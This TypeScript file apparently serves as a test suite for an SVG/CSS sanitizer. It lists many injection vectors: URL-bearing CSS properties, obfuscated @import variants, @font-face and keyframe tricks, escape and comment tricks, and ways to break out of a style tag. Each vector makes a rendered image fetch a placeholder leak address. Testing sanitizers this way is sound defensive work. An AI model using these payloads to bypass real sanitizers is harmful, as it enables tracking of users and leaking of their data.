import { attacks, attacksOf, LEAK, sheet, svg } from "./attack.ts";

const raw = String.raw;
const PAINT = `rect,svg,text{background:url(${LEAK});mask-image:url(${LEAK})}`;
const F = "font-family:F";
const TEXT = `<text class="c" y="20" style="font-family:F">abc</text>`;

/** Properties that may name a file. */
const PROPERTIES = [
  "background",
  "background-image",
  "list-style",
  "list-style-image",
  "content",
  "border-image",
  "border-image-source",
  "-webkit-border-image",
  "mask",
  "mask-image",
  "-webkit-mask",
  "-webkit-mask-image",
  "-webkit-mask-box-image",
  "mask-border",
  "mask-border-source",
  "offset-path",
  "offset",
  "shape-outside",
  "clip-path",
  "-webkit-clip-path",
  "filter",
  "-webkit-filter",
  "backdrop-filter",
  "-webkit-backdrop-filter",
  "fill",
  "stroke",
  "marker",
  "marker-start",
  "marker-mid",
  "marker-end",
  "cursor",
  "d",
  "src",
  "behavior",
  "-moz-binding",
  "-webkit-box-reflect",
  "color",
  "--x",
  "font",
  "font-family",
  "animation",
  "transition",
  "will-change",
  "quotes",
  "counter-increment",
  "paint-order",
  "fill:red;background",
  "ba\\63kground",
  "\\62 ackground",
  "BACKGROUND",
  "background/**/",
  "*background",
  "_background",
  "background\\",
  "all;background",
];

/** Ways to ask for another sheet. */
const IMPORTS: Record<string, string> = {
  plain: `@import '${LEAK}';`,
  "by url": `@import url(${LEAK});`,
  "by quoted url": `@import url("${LEAK}");`,
  "without a space": `@import'${LEAK}';`,
  "in upper case": `@IMPORT '${LEAK}';`,
  "in mixed case": `@ImPoRt url('${LEAK}');`,
  escaped: raw`@\69mport '${LEAK}';`,
  "escaped with a space": raw`@\69 mport '${LEAK}';`,
  "escaped in the middle": raw`@im\70ort '${LEAK}';`,
  "escaped by itself": raw`@\i\m\p\o\r\t '${LEAK}';`,
  "escaped address": raw`@import '\68ttp://@HOST@/leak?vector=@N@';`,
  "after a comment": `/* x */@import '${LEAK}';`,
  "with a comment inside": `@import/**/'${LEAK}';`,
  "after charset": `@charset "utf-8";@import '${LEAK}';`,
  "after a layer": `@layer a;@import '${LEAK}' layer(a);`,
  "with a media": `@import '${LEAK}' screen;`,
  "with supports": `@import '${LEAK}' supports(display:block);`,
  "without a semicolon": `@import '${LEAK}'`,
  "after a comment of HTML": `<!-- @import '${LEAK}'; -->`,
  "after the end of a comment of HTML": `--> @import '${LEAK}';`,
  "in CDATA": `<![CDATA[@import '${LEAK}';]]>`,
  "with entities": `&#64;import '${LEAK}';`,
  "with a named at": `&commat;import '${LEAK}';`,
  "after a namespace": `@namespace svg url(http://www.w3.org/2000/svg);@import '${LEAK}';`,
  "after NUL": `\0@import '${LEAK}';`,
  "after a byte order mark": `\ufeff@import '${LEAK}';`,
  "after a rule": `a{}@import '${LEAK}';${PAINT}`,
  "in a media": `@media all{@import '${LEAK}';${PAINT}}`,
  "in a rule": `rect{@import '${LEAK}';background:url(${LEAK})}${PAINT}`,
  "after a broken rule": `}@import '${LEAK}';${PAINT}`,
  "as a value": `rect{fill:red;}@import '${LEAK}';a{b:}${PAINT}`,
};

export const sheets = [
  ...attacksOf("property", PROPERTIES, (name) =>
    sheet(
      `svg,g,rect,text,rect::before{${name}:url(${LEAK})}`,
      `<g><rect class="c" width="50" height="50"/><text y="9">x</text></g>`,
    ),
  ),
  ...attacksOf("import", Object.keys(IMPORTS), (name) => sheet(IMPORTS[name] ?? "")),
  ...attacks("sheet", {
    "a face": sheet(`@font-face{${F};src:url(${LEAK})}`, TEXT),
    "a face in upper case": sheet(`@FONT-FACE{${F};src:url(${LEAK})}`, TEXT),
    "a face, escaped": sheet(raw`@font-f\61 ce{${F};src:url(${LEAK})}`, TEXT),
    "a face with local first": sheet(`@font-face{${F};src:local(Nope),url(${LEAK})}`, TEXT),
    "a face in a media": sheet(`@media all{@font-face{${F};src:url(${LEAK})}}`, TEXT),
    "a face in supports": sheet(`@supports(display:block){@font-face{${F};src:url(${LEAK})}}`, TEXT),
    "a face in a layer": sheet(`@layer x{@font-face{${F};src:url(${LEAK})}}`, TEXT),
    "a face with a range": sheet(`@font-face{${F};src:url(${LEAK});unicode-range:U+61}`, TEXT),
    "a face after a broken rule": sheet(
      `rect{fill:red @font-face{${F};src:url(${LEAK})}}@font-face{${F};src:url(${LEAK})}`,
      TEXT,
    ),
    "font feature values": sheet(
      `@font-feature-values F{@styleset{a:1}}@font-face{${F};src:url(${LEAK})}`,
      TEXT,
    ),
    "a palette": sheet(`@font-palette-values --p{${F}}@font-face{${F};src:url(${LEAK})}`, TEXT),
    "a counter style": sheet(`@counter-style x{system:cyclic;symbols:url(${LEAK})}${PAINT}`),
    "a property": sheet(
      `@property --x{syntax:'<url>';inherits:true;initial-value:url(${LEAK})}rect{mask-image:var(--x)}${PAINT}`,
    ),
    "a namespace": sheet(
      `@namespace url(${LEAK});@namespace h url(http://www.w3.org/1999/xhtml);svg *{background:url(${LEAK});mask-image:url(${LEAK})}*|*{mask-image:url(${LEAK})}`,
    ),
    "a document rule": sheet(
      `@document url(${LEAK}){rect{fill:red}}@-moz-document url-prefix(){*{background:red}}${PAINT}`,
    ),
    "a page rule": sheet(`@page{background:url(${LEAK})}${PAINT}`),
    "a view transition": sheet(`@view-transition{navigation:auto}${PAINT}`),
    "starting style": sheet(
      `@starting-style{rect{mask-image:url(${LEAK})}}rect{transition:mask-image 1s allow-discrete}`,
    ),
    "a scope": sheet(`@scope(svg){rect{mask-image:url(${LEAK})}}`),
    "a container": sheet(`@container(width>0){rect{fill:red}}@layer a{rect{mask-image:url(${LEAK})}}`),
    "a container with a style query": sheet(
      `@container style(--x:url(${LEAK})){rect{mask-image:url(${LEAK})}}${PAINT}`,
    ),
    supports: sheet(`@supports(fill:red){rect{mask-image:url(${LEAK})}}`),
    "supports with a url": sheet(`@supports(background:url(${LEAK})){rect{mask-image:url(${LEAK})}}`),
    "media in media": sheet(`@media all{@media screen{@media all{rect{mask-image:url(${LEAK})}}}}`),
    "a media with a url in its condition": sheet(
      `@media (min-width:url(${LEAK})), all{rect{mask-image:url(${LEAK})}}`,
    ),
    "a media that breaks out": sheet(`@media all{}rect{mask-image:url(${LEAK})}/*{*/`),
    keyframes: sheet(`@keyframes k{0%,100%{mask-image:url(${LEAK})}}rect{animation:k 1s infinite}`),
    "keyframes of -webkit-": sheet(
      `@-webkit-keyframes k{from,to{-webkit-mask-image:url(${LEAK})}}rect{-webkit-animation:k 1s infinite}`,
    ),
    "keyframes, escaped": sheet(
      raw`@k\65yframes k{0%,100%{mask-image:\75rl(${LEAK})}}rect{animation:k 1s infinite}`,
    ),
    "keyframes in a media": sheet(
      `@media all{@keyframes k{0%,100%{mask-image:url(${LEAK})}}}rect{animation:k 1s infinite}`,
    ),
    "keyframes with a name that breaks out": sheet(
      `@keyframes x{}rect{mask-image:url(${LEAK})}@keyframes y{`,
    ),
    "keyframes with a quoted name": sheet(
      `@keyframes "a;}rect{mask-image:url(${LEAK})}"{0%,to{mask-image:url(${LEAK})}}rect{animation:"a;}rect{mask-image:url(${LEAK})}" 1s}`,
    ),
    "keyframes with an escaped name": sheet(
      raw`@keyframes a\{\}rect\{fill{0%,to{mask-image:url(${LEAK})}}rect{animation:a\{\}rect\{fill 1s}`,
    ),
    "a rule in a rule": sheet(`svg{rect{mask-image:url(${LEAK})}& rect{mask-image:url(${LEAK})}}`),
    "a rule in a rule with a media": sheet(`svg{@media all{rect{mask-image:url(${LEAK})}}}`),
    "a custom property": sheet(`svg{--x:url(${LEAK})}rect{mask-image:var(--x)}`),
    "a custom property on the element": svg(
      `<rect width="50" height="50" style="--x:url(${LEAK});mask-image:var(--x)"/>`,
    ),
    "a custom property in parts": sheet(
      `svg{--u:url;--a:'${LEAK}'}rect{mask-image:var(--u)(var(--a));background:url(var(--a));mask-image:image-set(var(--a) 1x)}`,
    ),
    "a custom property with a string for image-set": sheet(
      `svg{--a:'${LEAK}'}rect{mask-image:image-set(var(--a) 1x)}`,
    ),
    "a custom property, fallback": sheet(`rect{mask-image:var(--nope,url(${LEAK}))}`),
    "a custom property, escaped": sheet(raw`svg{--x:\75\72\6c(${LEAK})}rect{mask-image:var(--\78)}`),
    "a custom property with braces": sheet(
      `svg{--x:{}rect{mask-image:url(${LEAK})}}rect{mask-image:url(${LEAK})}`,
    ),
    "a custom property with a bad string": sheet(`svg{--x:'\n}rect{mask-image:url(${LEAK})}`),
    "a custom property with an unclosed bracket": sheet(
      `svg{--x:(;}rect{mask-image:url(${LEAK})}`,
      `<rect style="--x:(;mask-image:url(${LEAK})"/>`,
    ),
    "a custom property by attr": svg(
      `<rect width="9" height="9" title="${LEAK}" style="mask-image:attr(title type(&lt;url&gt;));mask-image:image-set(attr(title) 1x)"/>`,
    ),
    "image-set with a string": sheet(`rect{mask-image:image-set('${LEAK}' 1x)}`),
    "-webkit-image-set": sheet(`rect{-webkit-mask-image:-webkit-image-set(url(${LEAK}) 1x)}`),
    "image-set in upper case": sheet(`rect{mask-image:IMAGE-SET('${LEAK}' 1x)}`),
    "image-set, escaped": sheet(raw`rect{mask-image:image-s\65t('${LEAK}' 1x)}`),
    "image-set with a type": sheet(`rect{mask-image:image-set('${LEAK}' type('image/png'))}`),
    "cross-fade": sheet(`rect{mask-image:cross-fade(url(${LEAK}),red 50%)}`),
    "-webkit-cross-fade": sheet(`rect{-webkit-mask-image:-webkit-cross-fade(url(${LEAK}),url(${LEAK}),50%)}`),
    src: sheet(`rect{mask-image:src('${LEAK}')}${PAINT}`),
    "element and paint": sheet(`rect{mask-image:element(#r);background:paint(x)}${PAINT}`),
    "url with a modifier": sheet(`rect{mask-image:url('${LEAK}' crossorigin(anonymous))}${PAINT}`),
    "a bad string that hides a rule": sheet(`rect{font-family:'\n;mask-image:url(${LEAK})}`),
    "a bad address that hides a rule": sheet(`rect{fill:url(a'b);mask-image:url(${LEAK})}`),
    "an unclosed comment": sheet(
      `rect{fill:red}/* `,
      `</style><rect/><style>*/rect{mask-image:url(${LEAK})}</style><rect width="9" height="9"/>`,
    ),
    "a comment in a property": sheet(
      `rect{mask/**/-image:url(${LEAK});mask-image/**/:/**/url(/**/${LEAK});mask-image:/**/url(${LEAK})}`,
    ),
    "a semicolon in a bracket": sheet(`rect{fill:(;mask-image:url(${LEAK}));mask-image:url(${LEAK})}`),
    "a brace in a string": sheet(
      `rect[title="}rect{mask-image:url(${LEAK})"]{fill:red}rect{mask-image:url(${LEAK})}`,
    ),
    "a brace in an escaped class": sheet(
      raw`.a\}b\{mask-image\:url\(${LEAK}\),rect{mask-image:url(${LEAK})}`,
    ),
    "a newline escape in a string": sheet(`rect{font-family:"a\\\n";mask-image:url(${LEAK})}`),
    "a carriage return in a string": sheet(
      `rect{font-family:"a\r;mask-image:url(${LEAK});x:"}rect{mask-image:url(${LEAK})}`,
    ),
    "an escape at the end": sheet(`rect{mask-image:url(${LEAK})}rect{fill:\\`),
    "two sheets that make one": svg(
      `<style>rect{mask-image:</style><style>url(${LEAK})}rect{mask-image:url(${LEAK})}</style><rect width="9" height="9"/>`,
    ),
    "elements inside": svg(`<style>rect{<g/>mask-image:url(${LEAK})}</style><rect width="9" height="9"/>`),
    "a comment of XML inside": svg(
      `<style><!-- rect{mask-image:url(${LEAK})} --> rect{mask-image:url(${LEAK})}</style><rect width="9" height="9"/>`,
    ),
    "a tag's end inside a string": svg(
      `<style>rect{font-family:"</style><image href='${LEAK}' width='9' height='9'/>"}</style>`,
    ),
    "a type that is no CSS": svg(
      `<style type="text/x">rect{mask-image:url(${LEAK})}</style><style>rect{mask-image:url(${LEAK})}</style><rect width="9" height="9"/>`,
    ),
    "a sheet from outside": svg(`<style src="${LEAK}" href="${LEAK}">@import '${LEAK}';</style>`),
    "a sheet in XHTML": svg(`<style xmlns="http://www.w3.org/1999/xhtml">@import '${LEAK}';</style>`),
    "a sheet in defs with a media": svg(
      `<defs><style media="all">rect{mask-image:url(${LEAK})}</style></defs><rect width="9" height="9"/>`,
    ),
    "a sheet before the root": `<style>svg{background:url(${LEAK})}</style>${svg("<rect/>")}`,
  }),
];
